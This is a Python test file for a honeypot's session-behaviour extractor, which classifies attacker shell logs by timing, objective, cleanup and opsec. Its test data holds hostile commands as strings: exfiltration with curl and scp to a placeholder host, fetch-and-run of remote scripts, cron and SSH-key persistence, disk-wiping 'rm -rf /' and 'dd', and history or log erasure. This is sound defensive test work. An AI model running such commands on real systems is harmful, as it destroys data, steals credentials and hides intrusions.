"""Primitives from a log alone: what is measured, with which bounds, and what is not invented."""

from __future__ import annotations

from typing import Any

import pytest
from behave_shell.spec import PRIMITIVE_REGISTRY
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.behave import EXTRACTOR_VERSION
from decnet.behave.features import FAMILIES
from tests.behavekit import START, extract, session

LATENCY = "cognitive.inter_command_latency_class"
CONSISTENCY = "cognitive.inter_command_consistency"
OBJECTIVE = "operational.objective"
CLEANUP = "operational.cleanup_behavior"
DISCIPLINE = "operational.opsec_discipline"
EXIT = "temporal.lifecycle_markers.exit_behavior"
RECON = ["whoami", "id", "uname -a", "hostname", "ifconfig", "ps aux"]


def values(payload: dict[str, Any]) -> dict[str, Any]:
    return {o.primitive: o.value for o in extract(payload, key=b"k" * 32).observations}


def timed(gaps: list[float], **more: Any) -> dict[str, Any]:
    """A session of ``id`` commands with these gaps between them."""
    payload = session([f"echo {i}" for i in range(len(gaps) + 1)], **more)
    now = START + 1
    for row, gap in zip(payload["commands"], [*gaps, 0.0], strict=True):
        row["ts"] = now
        now += gap
    return payload | {"ended_at": now + 1, "duration_s": now + 1 - START}


def test_a_scan_gives_client_and_duration_only() -> None:
    found = extract(session([]))
    assert sorted(o.primitive for o in found.observations) == [
        "temporal.session_duration",
        "toolchain.ssh.hassh_client",
        "toolchain.ssh.kex_algorithm_order",
        "toolchain.ssh.ssh_client_banner",
    ]


def test_a_single_command_gives_objective_and_pipe_depth_besides() -> None:
    found = values(session(["cat /proc/cpuinfo | grep name | wc -l"]))
    assert found[OBJECTIVE] == "recon"
    assert found["motor.shell_mastery.pipe_chaining_depth"] == "moderate"
    assert not {p for p in found if p.startswith(("cognitive.", "emotional", "environmental"))}


def test_envelope() -> None:
    payload = session(RECON)
    for one in extract(payload).observations:
        assert one.evidence_ref == f"session:s1#behave-{EXTRACTOR_VERSION}@{int(payload['ended_at'] * 1000)}"
        assert one.ts == one.window.end_ts == payload["ended_at"]
        assert one.window.start_ts == payload["started_at"]
        assert 0 < one.confidence <= 1
        assert one.source == "decnet.behave"
        assert one.primitive in PRIMITIVE_REGISTRY


def test_the_same_session_gives_the_same_observations() -> None:
    assert extract(session(RECON)) == extract(session(RECON))


@pytest.mark.parametrize(
    ("gap", "label"),
    [
        (0.0, "instant"), (0.19, "instant"), (0.21, "typing_speed"), (1.9, "typing_speed"),
        (2.1, "llm_lightweight"), (7.9, "llm_lightweight"), (8.1, "llm_heavyweight"), (29.9, "llm_heavyweight"),
        (30.1, "long"), (4000.0, "long"),
    ],
)  # fmt: skip
def test_latency_classes(gap: float, label: str) -> None:
    assert values(timed([gap, gap]))[LATENCY] == label


def test_latency_needs_three_commands() -> None:
    assert LATENCY not in values(timed([1.0]))


@pytest.mark.parametrize(
    ("gaps", "label"),
    [
        ([5.0, 5.1, 4.9, 5.0], "metronomic"),
        ([1.0, 9.0, 3.0, 14.0], "variable"),
        ([1.0, 1.1, 0.9, 1.0, 40.0, 1.0, 44.0, 1.1, 39.0, 0.9], "bimodal"),
        ([1.0, 2.0, 4.0, 8.0, 16.0, 3.0, 6.0, 12.0, 1.5], "variable"),
    ],
)
def test_consistency(gaps: list[float], label: str) -> None:
    assert values(timed(gaps))[CONSISTENCY] == label


@pytest.mark.parametrize(
    ("seconds", "label"),
    [(0, "short"), (899, "short"), (900, "medium"), (5399, "medium"), (5400, "long"), (14400, "marathon")],
)
def test_duration(seconds: float, label: str) -> None:
    assert values(session([], duration_s=seconds))["temporal.session_duration"] == label


def test_a_log_that_stops_says_nothing_about_the_end() -> None:
    found = values(session(RECON, end_reason="eof"))
    assert "temporal.session_duration" not in found
    assert EXIT not in found


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("id", "shallow"), ("a | b", "shallow"), ("a | b | c", "moderate"), ("a | b | c | d", "moderate"),
        ("a | b | c | d | e", "deep"), ("echo 'a|b|c|d|e'", "shallow"), ("a || b || c || d", "shallow"),
        ("a | b; c | d; e | f", "shallow"),
    ],
)  # fmt: skip
def test_pipe_depth(text: str, label: str) -> None:
    assert values(session([text]))["motor.shell_mastery.pipe_chaining_depth"] == label


@pytest.mark.parametrize(
    ("commands", "label"),
    [
        (RECON, "recon"),
        (["cat /etc/crontab"], "recon"),
        (["tar czf /tmp/x.tgz /etc", "curl -F 'f=@/tmp/x.tgz' http://192.0.2.9/up"], "exfil"),
        (["scp /etc/shadow bob@192.0.2.9:/tmp"], "exfil"),
        (["echo '* * * * * x' | crontab -"], "persistence"),
        (["echo k >> ~/.ssh/authorized_keys"], "persistence"),
        (["ssh root@10.0.0.5"], "lateral"),
        (["nmap 10.0.0.0/24", "id"], "lateral"),
        (["rm -rf / --no-preserve-root"], "destructive"),
        (["dd if=/dev/zero of=/dev/sda"], "destructive"),
        (["id", "useradd x", "mkfs.ext4 /dev/sda1"], "destructive"),
        (["wget http://192.0.2.9/x", "chmod +x x", "./x"], None),
        (["enable", "system", "shell"], None),
    ],
)
def test_objective(commands: list[str], label: str | None) -> None:
    assert values(session(commands)).get(OBJECTIVE) == label


@pytest.mark.parametrize(
    ("commands", "cleanup", "discipline"),
    [
        (["wget http://192.0.2.9/x.sh -O /tmp/x.sh", "sh /tmp/x.sh"], "none", "careless"),
        (["wget http://192.0.2.9/x.sh", "sh x.sh", "rm -f x.sh"], "partial", None),
        (["unset HISTFILE", "wget http://192.0.2.9/x.sh", "sh x.sh", "rm x.sh"], "thorough", "careful"),
        (
            ["unset HISTFILE", "wget http://192.0.2.9/x.sh", "wget http://192.0.2.9/y", "rm x.sh"],
            "partial",
            None,
        ),
        (["id", "echo > /var/log/auth.log"], "partial", "careful"),
        (["id", "history -c"], "thorough", "careful"),
        (["history -c"], None, None),
        (["id"], None, None),
        (["cat /var/log/auth.log", "cat ~/.bash_history"], None, None),
        (RECON, None, "careless"),
    ],
)
def test_footprint(commands: list[str], cleanup: str | None, discipline: str | None) -> None:
    found = values(session(commands))
    assert (found.get(CLEANUP), found.get(DISCIPLINE)) == (cleanup, discipline)


def test_a_download_that_stays_is_an_artifact() -> None:
    found = values(session(["id", "ls"], downloads=[{"url": "http://192.0.2.9/x", "sha256": "0" * 64}]))
    assert found[CLEANUP] == "none"


@pytest.mark.parametrize(
    ("commands", "size", "protocol", "label"),
    [
        (["id", "exit"], None, "ssh", "graceful"),
        (["id", "history -c", "exit"], None, "ssh", "cleanup"),
        (["id", "ls"], {"width": 80, "height": 24}, "ssh", "abrupt"),
        (["id", "ls"], None, "telnet", "abrupt"),
        (["id"], None, "ssh", None),
    ],
)
def test_exit(commands: list[str], size: dict[str, int] | None, protocol: str, label: str | None) -> None:
    payload = session(commands, protocol=protocol)
    payload["client"]["size"] = size
    assert values(payload).get(EXIT) == label


def test_landing_ritual() -> None:
    name = "temporal.lifecycle_markers.landing_ritual"
    assert values(session(RECON))[name] == "present"
    assert values(session(["cd /tmp", "wget http://192.0.2.9/x", "sh x"]))[name] == "absent"
    assert name not in values(session(["id", "uname -a"]))


@pytest.mark.parametrize(
    ("commands", "vocabulary", "branching", "style"),
    [
        (["whoami", "id", "uname -a", "ps", "netstat", "ls", "df"], "moderate", "linear_playbook", "methodical"),
        (["curl a", "curl b", "curl c", "ls", "curl d", "curl e"], "narrow", "adaptive_branching", "targeted"),
        (["ls", "id", "ps", "ls", "uname", "ls", "ps", "id", "netstat", "ls"], "moderate", "adaptive_branching", "chaotic"),
        ([f"tool{i}" for i in range(14)], "broad", "linear_playbook", "targeted"),
        (["ls a", "ls b", "cat c", "id", "uname", "w", "df"], "moderate", "linear_playbook", "methodical"),
        (["ls a", "ls b", "cat c", "cat d", "uname", "w", "df"], "moderate", "unknown", "methodical"),
    ],
)  # fmt: skip
def test_vocabulary_branching_and_exploration(
    commands: list[str], vocabulary: str, branching: str, style: str
) -> None:
    found = values(session(commands))
    assert found["cognitive.tool_vocabulary"] == vocabulary
    assert found["cognitive.command_branch_diversity"] == branching
    assert found["cognitive.exploration_style"] == style


def test_content_needs_five_commands() -> None:
    found = values(session(["whoami", "id", "uname -a", "ps"]))
    assert not {p for p in found if p.startswith("cognitive.")} - {LATENCY, CONSISTENCY}


@pytest.mark.parametrize(
    ("commands", "label"),
    [
        (["id", "uname -a", "wget http://192.0.2.9/x", "echo x | crontab -", "history -c"], "deep"),
        (["id", "ls", "cat /etc/passwd", "ps", "df"], "shallow"),
        ([("foo", False), ("bar", False), ("id", True), ("baz", False), ("ls", True)], "reactive"),
    ],
)
def test_planning(commands: list[Any], label: str) -> None:
    assert values(session(commands))["cognitive.planning_depth"] == label


@pytest.mark.parametrize(
    ("after", "label"),
    [("wegt http://192.0.2.9/x", "rerun"), ("wegt -q http://192.0.2.9/x", "modify"),
     ("curl -O http://192.0.2.9/x", "switch"), ("id", "abort")],
)  # fmt: skip
def test_answer_to_a_failure(after: str, label: str) -> None:
    found = values(session([("wegt http://192.0.2.9/x", False), after]))
    assert found["cognitive.error_resilience.retry_tactic"] == label


def test_a_corrected_slip_modifies() -> None:
    found = values(session([("hsitory", False), "history"]))
    assert found["cognitive.error_resilience.retry_tactic"] == "modify"


def test_help_is_for_the_stuck() -> None:
    name = "cognitive.error_resilience.fallback_to_man"
    assert values(session([("foo", False), "man foo"]))[name] == "present"
    assert values(session(["id", "tar --help"]))[name] == "present"
    assert values(session([("foo", False), "df -h"]))[name] == "absent"
    assert name not in values(session(["df -h"]))


@pytest.mark.parametrize(
    ("gaps", "label"),
    [([5.0] * 8, "sustained"), ([1.0, 1.0, 1.0, 1.0, 1.0, 600.0, 1.0, 1.0], "bursty"),
     ([1.0, 80.0, 1.0, 2.0, 75.0, 1.0, 1.0, 90.0, 1.0, 1.0, 1.0], "erratic")],
)  # fmt: skip
def test_escalation(gaps: list[float], label: str) -> None:
    assert values(timed(gaps))["temporal.escalation_pattern"] == label


def test_idle_and_micro_pauses() -> None:
    idle, micro = "temporal.lifecycle_markers.idle_periodicity", "cultural.periodic_micro_pauses"
    assert values(timed([60.0, 1.0, 61.0, 60.0, 59.0]))[idle] == "periodic"
    assert values(timed([40.0, 200.0, 90.0, 900.0]))[idle] == "random"
    assert idle not in values(timed([40.0, 1.0, 50.0]))
    assert values(timed([600.0, 1.0] * 8))[micro] == "regular_intervals_detected"
    uneven = [400.0, *[20.0] * 400, 500.0, 310.0, 320.0, *[20.0] * 900, 600.0, 305.0, *[20.0] * 30, 700.0]
    assert values(timed(uneven))[micro] == "none_detected"
    assert micro not in values(timed([600.0, 1.0] * 3))


@pytest.mark.parametrize(
    ("text", "label"),
    [("if [[ -f x ]]; then id; fi", "bash"), ("Get-ChildItem C:\\", "powershell"), ("dir /s", "cmd.exe"),
     ("setopt noclobber", "zsh"), ("set -gx PATH /x", "fish"), ("ls -la", None)],
)  # fmt: skip
def test_shell(text: str, label: str | None) -> None:
    assert values(session(["ls", text])).get("environmental.shell_type") == label
    assert "environmental.shell_type" not in values(session([text]))


def test_telnet_has_no_ssh_client_and_is_a_client_all_the_same() -> None:
    payload = session(
        ["id"], protocol="telnet", client={"version": None, "hassh": None, "kex": [], "size": None}
    )
    found = extract(payload)
    assert not [o for o in found.observations if o.primitive.startswith("toolchain")]
    assert found.features["client"] == {"session.client": "telnet:"}


def test_a_hostile_banner_is_storable() -> None:
    client = {
        "version": "SSH-2.0-\x00\ud800" + "x" * 5000,
        "hassh": "a" * 32,
        "kex": ["\udfff", 7, None],
        "size": 3,
    }
    found = values(session([], client=client))
    assert found["toolchain.ssh.ssh_client_banner"].startswith("SSH-2.0-\ufffd\ufffdx")
    assert len(found["toolchain.ssh.ssh_client_banner"]) == 255
    assert found["toolchain.ssh.kex_algorithm_order"] == ["\ufffd"]


def test_scripts_that_the_honeypot_read_are_no_commands() -> None:
    found = values(
        session(["wget http://192.0.2.9/x.sh", "sh x.sh", "#!/bin/sh\nrm -rf /\n", "echo stage\n"])
    )
    assert found.get(OBJECTIVE) is None
    assert LATENCY not in found


def test_pieces_of_a_long_command_count_once() -> None:
    payload = session(["a" * 100, "b", "c"])
    payload["commands"].insert(1, {"id": "s1#cmd0.1", "command_text": "a" * 50, "ts": START + 1.0})
    assert values(payload)[LATENCY] == "llm_lightweight"


def test_features_by_family() -> None:
    found = extract(session(["wget http://192.0.2.9/x1", "sh x1", "exit"]), key=b"k" * 32).features
    again = extract(session(["wget http://192.0.2.7/x7", "sh x7"], n=2, gap=1.0), key=b"k" * 32).features
    other = extract(session(["id"]), key=b"k" * 32).features
    assert set(found) == set(FAMILIES)
    assert found["playbook"] == again["playbook"] != other["playbook"]
    assert found["credentials"] == again["credentials"]
    assert found["tempo"] != again["tempo"]
    assert extract(session(["id"]), key=b"x").features["playbook"] != other["playbook"]
    assert found["hours"] == {"session.hour_utc": 22, "session.dow": 1}
    assert found["typing"] is None
    assert extract(session([]), key=b"k").features["playbook"] is None
    flat = [v for family in found.values() if family for v in family.values()]
    assert not any("wget" in str(v) or "root" in str(v) or "192.0.2" in str(v) for v in flat)


def test_ambiguous_credentials_are_no_feature() -> None:
    auth = {"fail_count": 3, "success": True, "usernames": ["root", "admin"]}
    assert extract(session(["id"], auth=auth)).features["credentials"] is None


junk = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=30)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=8,
)


@settings(max_examples=50, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(["started_at", "duration_s", "end_reason", "commands", "client", "auth", "downloads",
                         "command_count", "protocol", "service"]), junk),
    st.lists(st.fixed_dictionaries({"id": junk, "command_text": st.text(max_size=80), "ts": junk, "success": junk}),
             max_size=12),
)  # fmt: skip
def test_any_json_gives_registry_values_or_nothing(more: dict[str, Any], commands: list[Any]) -> None:
    for payload in (session([]) | more, session([]) | {"commands": commands} | more):
        for one in extract(payload, key=b"k").observations:
            PRIMITIVE_REGISTRY[one.primitive].validate_value(one.value)
            assert one.window.start_ts <= one.window.end_ts == one.ts


def test_an_attacker_without_id_is_known_by_the_address() -> None:
    assert extract(session([]) | {"attacker_uuid": None}) == extract(session([]))


def test_a_long_session_is_bounded() -> None:
    found = extract(session([f"echo {i} | grep {i}; id" for i in range(20_000)], gap=0.01))
    assert len(found.observations) > 10
    assert sum(found.hours.values()) == 5_000
